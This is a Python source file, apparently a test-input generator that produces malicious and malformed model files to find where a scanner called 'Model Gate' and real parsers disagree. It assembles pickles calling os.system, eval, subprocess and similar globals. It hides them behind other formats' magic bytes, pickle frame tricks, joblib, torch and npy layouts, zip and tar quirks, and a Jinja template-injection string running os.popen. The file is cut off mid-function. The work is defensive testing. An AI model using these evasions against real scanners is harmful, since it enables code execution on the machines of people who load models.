"""Inputs likely to make Model Gate and the real parsers disagree: hand-assembled pickles of every protocol and
call style, stacked and framed pickles, pickles behind other formats' magic, joblib and legacy-torch layouts, npy
headers, zips and tars with the tricks their readers treat differently, JSON that only Python accepts, and
byte-level mutations of all of these. Deterministic: input `index` of `seed` is always the same bytes.

generate(seed, index) -> (name, family, bytes)
"""
import collections
import json
import pickle
import random
import struct
import zlib

DANGEROUS = [('os', 'system'), ('posix', 'system'), ('builtins', 'eval'), ('builtins', 'exec'), ('subprocess', 'Popen'),
             ('subprocess', 'check_output'), ('__builtin__', 'eval'), ('runpy', '_run_code'), ('nt', 'system'),
             ('webbrowser', 'open'), ('builtins', 'getattr'), ('pty', 'spawn'), ('evil_pkg.payload', 'Run'),
             ('torch.serialization', 'load'), ('numpy.testing._private.utils', 'runstring'), ('pickle', 'loads')]
BENIGN_GLOBALS = [('collections', 'OrderedDict'), ('torch._utils', '_rebuild_tensor_v2'), ('numpy', 'dtype'),
                  ('numpy.core.multiarray', '_reconstruct'), ('numpy', 'ndarray'), ('torch', 'FloatStorage')]
NAMES = ['pytorch_model.bin', 'model.pkl', 'model.pt', 'model.joblib', 'data.pkl', 'model.ckpt', 'weights.bin',
         'model.safetensors', 'README.md', 'logo.gif', 'model.tflite', 'tokenizer.model', 'x.npy', 'arr.npz',
         'model.h5', 'notes.txt', 'config.json', 'model.onnx', 'archive.tar', 'sklearn_model.pkl']
MAGICS = [b'GIF89a', b'GIF87a', b'\x89PNG\r\n\x1a\n', b'\xff\xd8\xff\xe0', b'\x00\x00\x00\x18TFL3', b'\x1c\x00\x00\x00TFL3',
          b'\x08\x01\x12\x04', b'\x0a\x05hello', b'RIFF\x00\x00\x00\x00WEBP', b'\x93NUMPY\x01\x00', b'PK\x03\x04', b'\x1f\x8b\x08',
          b'ID3', b'%PDF-1.4\n', b'GGUF', b'\x89HDF\r\n\x1a\n', b'# Model card\n', b'{"a": 1}\n', b'#!/bin/sh\n']


# ───────────────────────────── a small pickle assembler ─────────────────────────────

def s_op(proto, s, rng):
    """A str literal in a protocol-appropriate (and sometimes unusual) encoding."""
    b = s.encode('utf-8')
    if proto == 0:
        k = rng.random()
        if k < 0.5:
            return b"S'" + s.encode('latin1', 'replace') + b"'\n"
        if k < 0.7:
            return b'S"' + s.encode('latin1', 'replace') + b'"\n'
        return b'V' + s.encode('raw_unicode_escape') + b'\n'
    if proto < 3 and rng.random() < 0.4:
        return (b'U' + bytes([len(b)]) + b) if len(b) < 256 else (b'T' + struct.pack('<i', len(b)) + b)
    if proto >= 4 and len(b) < 256 and rng.random() < 0.8:
        return b'\x8c' + bytes([len(b)]) + b
    if proto >= 4 and rng.random() < 0.2:
        return b'\x8d' + struct.pack('<Q', len(b)) + b
    return b'X' + struct.pack('<I', len(b)) + b


def memo(proto, rng, idx):
    if proto >= 4 and rng.random() < 0.7:
        return b'\x94'
    if proto >= 1:
        return (b'q' + bytes([idx & 0xff])) if rng.random() < 0.8 else (b'r' + struct.pack('<I', idx))
    return b'p%d\n' % idx


def global_op(proto, mod, name, rng):
    if proto >= 4 and rng.random() < 0.75:
        out = s_op(proto, mod, rng)
        if rng.random() < 0.5:
            out += memo(proto, rng, 0)
        out += s_op(proto, name, rng)
        if rng.random() < 0.5:
            out += memo(proto, rng, 1)
        return out + b'\x93'
    return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'


def tuple_of(proto, items):
    if proto >= 2 and len(items) == 1:
        return b''.join(items) + b'\x85'
    if proto >= 2 and len(items) == 2:
        return b''.join(items) + b'\x86'
    if proto >= 1 and not items:
        return b')'
    return b'(' + b''.join(items) + b't'


def payload_body(proto, rng, target=None):
    """Opcodes (no PROTO/STOP) that resolve `target` and call it with a command string."""
    mod, name = target or rng.choice(DANGEROUS)
    arg = s_op(proto, rng.choice(['id', 'echo pwned', 'import os;os.system("id")']), rng)
    styles = ['reduce', 'global-only', 'build']
    if proto <= 1:
        styles += ['inst', 'obj', 'obj']
    if proto >= 2:
        styles += ['newobj', 'newobj']
    if proto >= 4:
        styles += ['newobj_ex']
    style = rng.choice(styles)
    g = global_op(proto, mod, name, rng)
    if style == 'reduce':
        return g + (memo(proto, rng, 2) if rng.random() < 0.3 else b'') + tuple_of(proto, [arg]) + b'R'
    if style == 'global-only':
        return g
    if style == 'build':
        return g + tuple_of(proto, [arg]) + b'R' + (b'}' if proto >= 1 else b'(d') + b'b'
    if style == 'inst':
        return b'(' + arg + b'i' + mod.encode() + b'\n' + name.encode() + b'\n'
    if style == 'obj':
        return b'(' + g + arg + b'o'
    if style == 'newobj':
        return g + tuple_of(proto, [arg]) + b'\x81'
    return g + tuple_of(proto, [arg]) + b'}' + b'\x92'


def frame(body, rng, mode=None):
    mode = mode or rng.choice(['exact', 'exact', 'exact', 'short', 'long', 'split', 'none'])
    if mode == 'none':
        return body
    if mode == 'exact':
        return b'\x95' + struct.pack('<Q', len(body)) + body
    if mode == 'short':
        return b'\x95' + struct.pack('<Q', max(0, len(body) - rng.randint(1, 4))) + body
    if mode == 'long':
        return b'\x95' + struct.pack('<Q', len(body) + rng.randint(1, 9000)) + body
    k = rng.randint(0, len(body))
    return b'\x95' + struct.pack('<Q', k) + body[:k] + b'\x95' + struct.pack('<Q', len(body) - k) + body[k:]


def payload(rng, proto=None, target=None):
    proto = rng.randint(0, 5) if proto is None else proto
    body = payload_body(proto, rng, target)
    if proto >= 4:
        body = frame(body + b'.', rng)[:-1] if rng.random() < 0.7 else body
        return b'\x80' + bytes([proto]) + body + b'.'
    head = b'\x80' + bytes([proto]) if proto >= 2 or (proto == 1 and rng.random() < 0.2) else b''
    return head + body + b'.'


def benign_obj(rng, depth=0):
    k = rng.random()
    if depth > 2 or k < 0.3:
        return rng.choice([0, 1, -5, 300, 70000, 2 ** 40, 1.5, 'layer.weight', b'\x00\x01', None, True, 'x' * rng.randint(0, 300)])
    if k < 0.55:
        return {f'k{i}': benign_obj(rng, depth + 1) for i in range(rng.randint(0, 5))}
    if k < 0.75:
        return [benign_obj(rng, depth + 1) for _ in range(rng.randint(0, 5))]
    if k < 0.85:
        return tuple(benign_obj(rng, depth + 1) for _ in range(rng.randint(0, 3)))
    if k < 0.92:
        return collections.OrderedDict((f'o{i}', i) for i in range(rng.randint(0, 3)))
    return rng.randbytes((rng.randint(0, 64)))


def benign(rng, proto=None, big=False):
    proto = rng.randint(0, 5) if proto is None else proto
    obj = benign_obj(rng)
    if big:
        obj = {'blob': rng.randbytes((rng.choice([100, 5000, 9000, 20000]))), 'x': obj}
    return pickle.dumps(obj, protocol=proto)


def garbage(rng):
    k = rng.random()
    n = rng.choice([1, 2, 3, 8, 17, 100])
    if k < 0.3:
        return rng.randbytes((n))
    if k < 0.5:
        return b'\x00' * n
    if k < 0.7:
        return b'\n' * n
    if k < 0.85:
        return b'junk text here\n'[:n]
    return rng.choice([b'N0', b'(1', b'K\x01K\x02\x86.', b')0', b'I1\n0'])


# ───────────────────────────── families ─────────────────────────────

def fam_single(rng):
    return payload(rng)


def fam_stacked(rng):
    parts = [benign(rng, big=rng.random() < 0.3) for _ in range(rng.randint(1, 3))]
    mode = rng.choice(['plain', 'garbage', 'frame-over', 'frame-swallow', 'frame-over', 'literal'])
    p = payload(rng)
    if mode == 'plain':
        return b''.join(parts) + p
    if mode == 'garbage':
        return b''.join(parts) + garbage(rng) + p
    if mode == 'literal':
        # The payload sits inside a bytes literal of an outer pickle (torch.load of bytes, pickle.loads of a field).
        proto = rng.randint(1, 5)
        lit = (b'C' + bytes([len(p)]) + p) if proto >= 3 and len(p) < 256 else (b'T' + struct.pack('<i', len(p)) + p)
        return b'\x80' + bytes([max(proto, 2)]) + lit + b'.'
    # A proto-4 pickle whose FRAME runs past its STOP: the C unpickler that read the whole frame starts the next
    # pickle at the frame's end, a byte-by-byte reader right after STOP.
    size = rng.choice([50, 4000, 9000, 20000, 140000])
    data = rng.randbytes((size)) if rng.random() < 0.5 else b'\x00' * size
    inner = b'\x8c\x01a\x94C' + struct.pack('<B', 0) + b'.' if rng.random() < 0.3 else b'B' + struct.pack('<I', len(data)) + data + b'.'
    extra = rng.randint(1, 40)
    if mode == 'frame-over':
        filler = garbage(rng)[:extra].ljust(extra, b'\x00')
        first = b'\x80\x04\x95' + struct.pack('<Q', len(inner) + extra) + inner
        return first + filler + p
    # frame-swallow: the bytes after STOP are a literal in a second pickle that hides the payload from a
    # byte-by-byte reader while the frame-end reader runs it.
    hidden = b'\x00' * extra + p
    second = b'C' + bytes([len(hidden)]) + hidden + b'.' if len(hidden) < 256 else b'B' + struct.pack('<I', len(hidden)) + hidden + b'.'
    cut = 1 + (1 if len(hidden) < 256 else 4) + extra
    first = b'\x80\x04\x95' + struct.pack('<Q', len(inner) + cut) + inner
    return first + second


def fam_prefix(rng):
    magic = rng.choice(MAGICS)
    p = payload(rng)
    k = rng.random()
    if magic.startswith(b'GIF8'):
        # 'G' is BINFLOAT: it swallows "IF89a" and three more bytes; POP drops the float.
        return magic + rng.randbytes((3)) + b'0' + p
    if b'TFL3' in magic[:8]:
        return b'U\x06' + rng.randbytes((2)) + b'TFL3' + b'0' + p
    if k < 0.4:
        return magic + p
    if k < 0.7:
        # Wrapped in a literal the pickle pops: SHORT_BINBYTES / SHORT_BINSTRING around the magic.
        lit = magic + rng.randbytes((rng.randint(0, 20)))
        return rng.choice([b'C', b'U']) + bytes([len(lit)]) + lit + b'0' + p
    if k < 0.85:
        # Protocol-0 text: a string holding prose, popped, then the payload (a "text file" that unpickles).
        prose = rng.choice(['# Model card', 'This model was trained on', 'Apache-2.0 license text', '{"architectures": ["Bert"]}'])
        return b"S'" + prose.encode() + b"'\n0" + payload(rng, 0)
    return b'(' + b"V" + magic.decode('latin1').encode('raw_unicode_escape').replace(b'\n', b'\\u000a') + b'\n1' + p


def fam_text0(rng):
    """Printable protocol-0 pickles that read like text."""
    lines = [b"(dp0", b"S'text'", b"p1", b"I42", b"L12L", b"F1.5", b"N", b"(lp2", b"V\\u00e9t\\u00e9", b"0", b"g1", b"aI3"]
    pre = b''
    for _ in range(rng.randint(0, 4)):
        pre += rng.choice([b"S'This is a README line'\n0", b"I1\n0", b"(I1\nI2\nl0", b'N0', b"V# Title\n0", b"F3.14\n0"])
    p = payload(rng, 0)
    if rng.random() < 0.3:
        p = p.replace(b'\n', b'\r\n', 1)
    out = pre + p
    if rng.random() < 0.2:
        out += b'\n'.join(rng.sample(lines, 3))
    return out


def numpy_dtype_pickle(proto, code, state_elsize=-1, fields=None):
    # numpy.dtype('f8', False, True) then BUILD (3, '<', None, names, fields, elsize, alignment, flags)
    g = b'c' + b'numpy\ndtype\n'
    args = b'(' + b"S'" + code.encode() + b"'\nI00\nI01\nt"
    st_fields = b'N' if fields is None else fields
    state = b'(I3\nS' + b"'<'\nN" + (b'N' if fields is None else b"(S'a'\nt") + st_fields + b'I%d\nI-1\nI0\nt' % state_elsize
    return g + args + b'R' + state + b'b'


def joblib_wrapper(rng, shape, code, elsize=-1, align=16, proto=2, fields=None):
    """A NumpyArrayWrapper as joblib pickles it (protocol 0 opcodes inside, valid under any PROTO)."""
    items = [b"S'subclass'\ncnumpy\nndarray\n", b"S'shape'\n(" + b''.join(b'I%d\n' % s if isinstance(s, int) else s for s in shape) + b't',
             b"S'order'\nS'C'\n", b"S'dtype'\n" + numpy_dtype_pickle(proto, code, elsize, fields), b"S'allow_mmap'\nI01\n"]
    if align is not None:
        items.append(b"S'numpy_array_alignment_bytes'\nI%d\n" % align)
    rng.shuffle(items)
    return b'cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81(d' + b''.join(items) + b'b' if proto >= 2 else \
        b'(ijoblib.numpy_pickle\nNumpyArrayWrapper\n(d' + b''.join(items) + b'b'


def fam_joblib(rng):
    code, size = rng.choice([('f8', 8), ('<f4', 4), ('i1', 1), ('u2', 2), ('b1', 1), ('c16', 16), ('O', 8), ('U3', 12), ('S5', 5), ('V4', 4), ('O8', 8)])
    n = rng.choice([0, 1, 3, 10])
    shape = [n] if rng.random() < 0.8 else [n, 2]
    if rng.random() < 0.1:
        shape = [b"F3.0\n"] if rng.random() < 0.5 else [b"S'3'\n"]
    elsize = -1
    if rng.random() < 0.2 and code[0] in 'SUV':
        elsize = rng.choice([0, 1, 64])
    align = None if rng.random() < 0.3 else 16
    proto = rng.choice([2, 3, 4])
    w = joblib_wrapper(rng, shape, code, elsize, align, proto)
    count = 1
    for s in shape:
        count *= s if isinstance(s, int) else 3
    eff = elsize if elsize > 0 else size
    p = payload(rng, rng.choice([2, 3, 4, 5]))
    mode = rng.choice(['after', 'in-array', 'lie', 'object', 'after', 'frame-open', 'benign'])
    pad = b''
    if align is not None:
        k = rng.choice([0, 1, 7, 15])
        pad = bytes([k]) + b'\xff' * k
    head = b'\x80' + bytes([proto]) + b'(' if proto < 4 else b'\x80\x04('
    arr = rng.randbytes((count * eff)) if code[0] != 'O' else b''
    tail = b'l.'  # the list around the wrapper, closed after the array
    if mode == 'benign':
        return head + w + pad + arr + tail
    if code[0] == 'O' or mode == 'object':
        inner = payload(rng, 2)
        return head + joblib_wrapper(rng, shape, 'O', -1, None, proto) + inner + tail
    if mode == 'after':
        return head + w + pad + arr + payload_body(2, rng) + b'a' + b'l.' if rng.random() < 0.5 else head + w + pad + arr + tail + p
    if mode == 'in-array':
        fake = p
        return head + w + pad + fake + arr[len(fake):] + tail
    if mode == 'lie':
        # The pickle states one length; the bytes that follow are shorter or longer than numpy's own size.
        delta = rng.choice([-3, -1, 1, 4, 9])
        arr2 = arr[:max(0, len(arr) + delta)] if delta < 0 else arr + bytes(delta)
        return head + w + pad + arr2 + tail + p
    # frame-open: the wrapper inside a FRAME that also covers the array bytes (joblib commits frames before arrays).
    body = w + pad + arr
    return b'\x80\x04\x95' + struct.pack('<Q', len(body) + 1) + b'(' + body + tail + p


TORCH_MAGIC_P = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
TORCH_PROTO_P = b'\x80\x02M\xe9\x03.'
SYSINFO_P = b'\x80\x02}q\x00(X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03X\r\x00\x00\x00little_endianq\x02\x88X\n\x00\x00\x00type_sizesq\x03}q\x04(X\x05\x00\x00\x00shortq\x05K\x02X\x03\x00\x00\x00intq\x06K\x04X\x04\x00\x00\x00longq\x07K\x04uu.'


def fam_legacy(rng):
    numel = rng.choice([0, 1, 4, 16])
    main = (b'\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03ctorch\nFloatStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K'
            + bytes([numel]) + b'Ntq\x07QK\x00K' + bytes([numel]) + b'\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x08Rq\x09s.')
    keys = b'\x80\x02]q\x00X\x01\x00\x00\x000q\x01a.'
    stored = numel
    mode = rng.choice(['sysinfo', 'main', 'after', 'in-storage', 'lie', 'keys', 'magic-only', 'benign'])
    p = payload(rng, rng.choice([2, 4]))
    sysinfo, body = SYSINFO_P, main
    if mode == 'sysinfo':
        sysinfo = p
    elif mode == 'main':
        body = main[:-2] + payload_body(2, rng) + b'0s.' if rng.random() < 0.5 else p
    elif mode == 'keys':
        keys = p
    elif mode == 'lie':
        stored = numel + rng.choice([-1, 1, 3]) if numel > 0 else 2
    storage = struct.pack('<q', stored) + rng.randbytes((4 * numel))
    if mode == 'in-storage':
        storage = struct.pack('<q', numel) + (p + bytes(max(0, 4 * numel - len(p))))[:max(4 * numel, len(p))]
    out = TORCH_MAGIC_P + TORCH_PROTO_P + sysinfo + body + keys + storage
    if mode in ('after', 'lie', 'in-storage'):
        out += p
    if mode == 'magic-only':
        out = TORCH_MAGIC_P + p
    return out


def npy_header(descr_text, shape_text='(3,)', version=1, extra=''):
    h = "{'descr': %s, 'fortran_order': False, 'shape': %s, %s}" % (descr_text, shape_text, extra)
    hb = h.encode('utf-8' if version == 3 else 'latin1')
    lenfmt = '<H' if version == 1 else '<I'
    pre = 8 + struct.calcsize(lenfmt)
    total = pre + len(hb) + 1
    pad = (64 - total % 64) % 64
    hb = hb + b' ' * pad + b'\n'
    return b'\x93NUMPY' + bytes([version, 0]) + struct.pack(lenfmt, len(hb)) + hb


NPY_DESCRS = ["'|O'", "'O'", "'<O8'", "'object'", "[('a', '|O')]", "[('a', '<f8'), ('b', '|O')]", "('|O', (2,))",
              "'\\x4f'", "'\\u004f'", "u'|O'", "'|O' ", "[('a', '<f8', (2,)), ('b', 'O')]", "'<f8'", "'|u1'", "[('a', [('b', 'O')])]",
              "'<U0'", "'|V8'", "'|S0'", "('O', 1)", "b'|O'"]


def fam_npy(rng):
    descr = rng.choice(NPY_DESCRS)
    version = rng.choice([1, 1, 2, 3])
    shape = rng.choice(['(3,)', '()', '(0,)', '(2, 2)', '(3,) '])
    extra = rng.choice(['', '', "'extra': 1"])
    h = npy_header(descr, shape, version, extra)
    p = payload(rng, rng.choice([2, 3, 4]))
    if descr in ("'<f8'", "'|u1'", "'|V8'", "'<U0'", "'|S0'") and rng.random() < 0.5:
        n = {"'<f8'": 24, "'|u1'": 3, "'|V8'": 24, "'<U0'": 0, "'|S0'": 0}[descr]
        return h + bytes(n) + p
    return h + p


def zip_member(name, data, offset, rng, method=0, local_name=None, crc=None, flags=0):
    name_b = name.encode() if isinstance(name, str) else name
    comp = zlib.compressobj(6, zlib.DEFLATED, -15).compress(data) + zlib.compressobj(6, zlib.DEFLATED, -15).flush() if False else None
    if method == 8:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        comp = c.compress(data) + c.flush()
    else:
        comp = data
    c32 = zlib.crc32(data) if crc is None else crc
    ln = (local_name if local_name is not None else name_b)
    local = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, method, 0, 0, c32, len(comp), len(data), len(ln), 0) + ln + comp
    central = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, method, 0, 0, c32, len(comp), len(data), len(name_b), 0, 0, 0, 0, 0, offset) + name_b
    return local, central


def build_zip(members, rng, prepend=b'', comment=b'', cd_offset_delta=0):
    body = bytearray(prepend)
    cds = []
    for m in members:
        local, central = zip_member(m['name'], m['data'], len(body) - (len(prepend) if m.get('relative') else 0), rng,
                                    m.get('method', 0), m.get('local_name'), m.get('crc'), m.get('flags', 0))
        body += local
        cds.append(central)
    cd = b''.join(cds)
    cd_off = len(body)
    body += cd
    eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(cds), len(cds), len(cd), cd_off + cd_offset_delta, len(comment)) + comment
    return bytes(body), cd_off, bytes(cd), eocd


def torch_members(rng, pkl, prefix='archive'):
    ms = [{'name': f'{prefix}/data.pkl', 'data': pkl, 'method': rng.choice([0, 0, 8])},
          {'name': f'{prefix}/version', 'data': b'3\n'}]
    if rng.random() < 0.7:
        ms.append({'name': f'{prefix}/data/0', 'data': bytes(16)})
    if rng.random() < 0.3:
        ms.append({'name': f'{prefix}/byteorder', 'data': b'little'})
    return ms


def fam_zip(rng):
    p = payload(rng, rng.choice([2, 4]))
    good = benign(rng, 2)
    trick = rng.choice(['plain', 'prepend', 'trailing', 'two-zips', 'comment-eocd', 'bad-cd-offset', 'zip64-locator',
                        'dup-names', 'name-mismatch', 'bad-crc', 'case', 'npz', 'no-slash', 'encrypted-flag', 'extra-len', 'benign'])
    members = torch_members(rng, p if trick != 'benign' else good)
    if trick == 'npz':
        members = [{'name': 'arr_0.npy', 'data': npy_header("'|O'") + p, 'method': rng.choice([0, 8])}]
    elif trick == 'case':
        members = torch_members(rng, good)
        members.append({'name': 'archive/DATA.PKL', 'data': p})
        members[0]['name'] = 'archive/data.pkl.bak' if rng.random() < 0.5 else 'archive/data.pkl'
    elif trick == 'dup-names':
        members = torch_members(rng, good)
        members.insert(rng.randint(0, len(members)), {'name': 'archive/data.pkl', 'data': p})
    elif trick == 'name-mismatch':
        members = torch_members(rng, good)
        members[0]['local_name'] = b'archive/data.pkx'
    elif trick == 'bad-crc':
        members[0]['crc'] = 0x12345678
    elif trick == 'no-slash':
        members = [{'name': 'data.pkl', 'data': p}, {'name': 'version', 'data': b'3\n'}]
    elif trick == 'encrypted-flag':
        members[0]['flags'] = 1
    prepend = b''
    if trick == 'prepend':
        prepend = rng.choice([b'GIF89a' + bytes(20), benign(rng, 2), rng.randbytes((rng.randint(1, 300)))])
    body, cd_off, cd, eocd = build_zip(members, rng, prepend)
    if trick == 'trailing':
        return body + eocd + rng.choice([p, bytes(30), b'PK\x05\x06' + bytes(18)])
    if trick == 'two-zips':
        body2, _, _, eocd2 = build_zip(torch_members(rng, good), rng)
        first, second = (body + eocd, body2 + eocd2) if rng.random() < 0.5 else (body2 + eocd2, body + eocd)
        return first + second
    if trick == 'comment-eocd':
        # The real end record's comment holds a second end record pointing at the same or another directory.
        good_body, gcd_off, gcd, geocd = build_zip(torch_members(rng, good), rng)
        fake = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(members), len(members), len(cd), cd_off, 0)
        combined = good_body + cd
        comment = fake if rng.random() < 0.5 else fake + bytes(rng.randint(1, 5))
        geocd2 = geocd[:-2] + struct.pack('<H', len(comment)) + comment
        return combined[:len(good_body)] + geocd2 if rng.random() < 0.3 else good_body + geocd2
    if trick == 'bad-cd-offset':
        body, cd_off, cd, eocd = build_zip(members, rng, prepend=b'', cd_offset_delta=rng.choice([1, 100, -1, 0x1000]))
        return body + eocd
    if trick == 'zip64-locator':
        # A zip64 record + locator before the end record: miniz follows the locator's offset, zipfile reads the record
        # just before the locator. Put a decoy record where one of them looks.
        good_members = torch_members(rng, good)
        gbody, gcd_off, gcd, _ = build_zip(good_members, rng)
        start_bad_cd = len(gbody)
        # rebuild the malicious directory to point at members after the good archive
        mal_body = bytearray()
        mal_cds = []
        for m in members:
            local, central = zip_member(m['name'], m['data'], start_bad_cd + len(gcd) + len(mal_body), rng, m.get('method', 0))
            mal_body += local
            mal_cds.append(central)
        mcd = b''.join(mal_cds)
        out = bytearray(gbody) + gcd + mal_body
        mcd_off = len(out)
        out += mcd
        rec_a = len(out)
        out += struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, len(mal_cds), len(mal_cds), len(mcd), mcd_off)
        rec_b = len(out)
        out += struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, len(good_members), len(good_members), len(gcd), gcd_off)
        loc_target = rng.choice([rec_a, rec_b])
        out += struct.pack('<IIQI', 0x07064b50, 0, loc_target, 1)
        out += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
        return bytes(out)
    if trick == 'extra-len':
        return body + eocd
    return body + eocd


def tar_header(name, size, typeflag=b'0', signed=False, magic=True, size_field=None, chk_fmt=0, mode=b'0000644'):
    h = bytearray(512)
    nb = name.encode()[:100]
    h[0:len(nb)] = nb
    h[100:108] = mode.ljust(7, b'0')[:7] + b'\0'
    h[108:116] = b'0000000\0'
    h[116:124] = b'0000000\0'
    sf = size_field if size_field is not None else (b'%011o' % size) + b'\0'
    h[124:136] = sf
    h[136:148] = b'00000000000\0'
    h[156:157] = typeflag
    if magic:
        h[257:263] = b'ustar\0'
        h[263:265] = b'00'
    if signed:
        h[265:270] = b'\xe9\xe9\xe9\xe9\xe9'  # uname bytes >= 0x80 make the signed and unsigned sums differ
    h[148:156] = b' ' * 8
    s = sum(h) if not signed else sum(struct.unpack('512b', bytes(h)))
    chk = [(b'%06o' % s) + b'\0 ', (b'%07o' % s) + b'\0', (b' %06o' % s) + b' ', (b'%o' % s).ljust(8, b' ')][chk_fmt]
    h[148:156] = chk[:8]
    return bytes(h)


def fam_tar(rng):
    p = payload(rng, rng.choice([0, 2, 4]))
    trick = rng.choice(['plain', 'type', 'signed', 'pax-size', 'base256', 'v7', 'chk-format', 'after-end', 'gnu-longname'])
    name = rng.choice(['model.pkl', 'pickle', 'archive/data.pkl', './x.bin'])
    out = bytearray()
    pad = lambda b: b + bytes((512 - len(b) % 512) % 512)
    if trick == 'pax-size':
        rec = b'size=%d\n' % len(p)
        rec = (b'%d ' % (len(rec) + 3)) + rec
        rec = (b'%d ' % (len(rec) - 3 + len(str(len(rec))) + 1)) + rec[rec.index(b' ') + 1:]
        out += tar_header('pax', len(rec), b'x')
        out += pad(rec)
        out += tar_header(name, rng.choice([0, 1, len(p) + 512]))
        out += pad(p)
    elif trick == 'base256':
        sf = b'\x80' + bytes(7) + struct.pack('>I', len(p))
        out += tar_header(name, len(p), size_field=sf) + pad(p)
    elif trick == 'gnu-longname':
        ln = (b'dir/' * 30 + b'model.pkl') + b'\0'
        out += tar_header('././@LongLink', len(ln), b'L') + pad(ln)
        out += tar_header('short', len(p)) + pad(p)
    else:
        tf = {'type': rng.choice([b'Z', b'V', b'A', b'9', b'X', b'S', b'\xff']), 'plain': b'0', 'signed': b'0', 'v7': b'\0',
              'chk-format': b'0', 'after-end': b'0'}[trick]
        out += tar_header(name, len(p), tf, signed=trick == 'signed', magic=trick != 'v7', chk_fmt=rng.randint(0, 3) if trick == 'chk-format' else 0)
        out += pad(p)
    out += bytes(1024)
    if trick == 'after-end':
        out += tar_header('late.pkl', len(p)) + pad(p) + bytes(1024)
    return bytes(out)


EVIL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def fam_json(rng):
    trick = rng.choice(['plain', 'nan', 'inf', 'surrogate', 'dup-last', 'dup-first', 'bigint', 'escaped-key', 'bom', 'dict-form',
                        'list-form', 'deep', 'control', 'trailing-comma', 'ws'])
    tmpl = EVIL
    doc = '{"model_max_length": 512, "chat_template": %s}' % json.dumps(tmpl)
    if trick == 'nan':
        doc = '{"model_max_length": NaN, "chat_template": %s}' % json.dumps(tmpl)
    elif trick == 'inf':
        doc = '{"x": %s, "chat_template": %s}' % (rng.choice(['Infinity', '-Infinity', '1e999']), json.dumps(tmpl))
    elif trick == 'surrogate':
        doc = '{"pad": "\\ud800", "chat_template": %s}' % json.dumps(tmpl).replace('id', 'i\\udc00d', 1)
    elif trick == 'dup-last':
        doc = '{"chat_template": "{{ messages }}", "chat_template": %s}' % json.dumps(tmpl)
    elif trick == 'dup-first':
        doc = '{"chat_template": %s, "chat_template": "{{ messages }}"}' % json.dumps(tmpl)
    elif trick == 'bigint':
        doc = '{"n": %s, "chat_template": %s}' % ('9' * rng.choice([20, 400, 5000]), json.dumps(tmpl))
    elif trick == 'escaped-key':
        doc = '{"chat\\u005ftemplate": %s}' % json.dumps(tmpl)
    elif trick == 'bom':
        doc = '\ufeff' + doc
    elif trick == 'dict-form':
        doc = '{"chat_template": {"default": %s}}' % json.dumps(tmpl)
    elif trick == 'list-form':
        doc = '{"chat_template": [{"name": "default", "template": %s}]}' % json.dumps(tmpl)
    elif trick == 'deep':
        d = rng.choice([100, 900, 2000])
        doc = '{"chat_template": %s, "x": %s}' % (json.dumps(tmpl), '[' * d + ']' * d)
    elif trick == 'control':
        doc = '{"chat_template": "%s\t"}' % tmpl.replace("'", "\\u0027")
    elif trick == 'trailing-comma':
        doc = doc[:-1] + ',}'
    elif trick == 'ws':
        doc = '\x0c' + doc if rng.random() < 0.5 else doc.replace(' ', '\u00a0', 1)
    return doc.encode('utf-8', 'surrogatepass')


def mutate(rng, data, other):
    b = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        k = rng.random()
        if not b:
            b += bytes([rng.randrange(256)])
        if k < 0.25:
            i = rng.randrange(len(b))
            b[i] ^= 1 << rng.randrange(8)
        elif k < 0.4:
            i = rng.randrange(len(b))
            b[i] = rng.choice([0, 0xff, 0x7f, 0x80, 0x0a, 0x2e, 0x95, 0x93, 0x28, ord('c'), 0x8c])
        elif k < 0.55:
            i = rng.randrange(len(b) + 1)
            b[i:i] = rng.randbytes((rng.randint(1, 8)))
        elif k < 0.7:
            i = rng.randrange(len(b))
            del b[i:i + rng.randint(1, 8)]
        elif k < 0.8:
            i = rng.randrange(len(b))
            j = min(len(b), i + rng.randint(1, 32))
            b[j:j] = b[i:j]
        elif k < 0.9 and other:
            i = rng.randrange(len(b) + 1)
            j = rng.randrange(len(other) + 1)
            b = b[:i] + other[j:]
        else:
            del b[rng.randrange(len(b) + 1):]
    return bytes(b)


FAMILIES = [('single', fam_single, 10), ('stacked', fam_stacked, 12), ('prefix', fam_prefix, 10), ('text0', fam_text0, 6),
            ('joblib', fam_joblib, 10), ('legacy', fam_legacy, 8), ('npy', fam_npy, 8), ('zip', fam_zip, 12),
            ('tar', fam_tar, 8), ('json', fam_json, 5)]
FAMILY_NAMES = {'single': ['model.pkl', 'pytorch_model.bin', 'data.pkl'], 'stacked': ['model.pkl', 'pytorch_model.bin'],
                'prefix': ['logo.gif', 'model.tflite', 'tokenizer.model', 'model.pkl', 'README.md'], 'text0': ['notes.txt', 'README.md', 'model.pkl'],
                'joblib': ['model.joblib', 'sklearn_model.pkl'], 'legacy': ['pytorch_model.bin', 'model.pt'], 'npy': ['x.npy', 'weights.bin'],
                'zip': ['pytorch_model.bin', 'arr.npz', 'model.pt'], 'tar': ['archive.tar', 'pytorch_model.bin'],
                'json': ['tokenizer_config.json']}


def _family(rng):
    total = sum(w for _, _, w in FAMILIES)
    k = rng.randrange(total)
    for name, fn, w in FAMILIES:
        if k < w:
            return name, fn
        k -= w
    return FAMILIES[0][0], FAMILIES[0][1]


def generate(seed, index):
    rng = random.Random(f'{seed}:{index}')
    fam, fn = _family(rng)
    data = fn(rng)
    family = fam
    if rng.random() < 0.3:
        ofam, ofn = _family(rng)
        data = mutate(rng, data, ofn(rng) if rng.random() < 0.3 else b'')
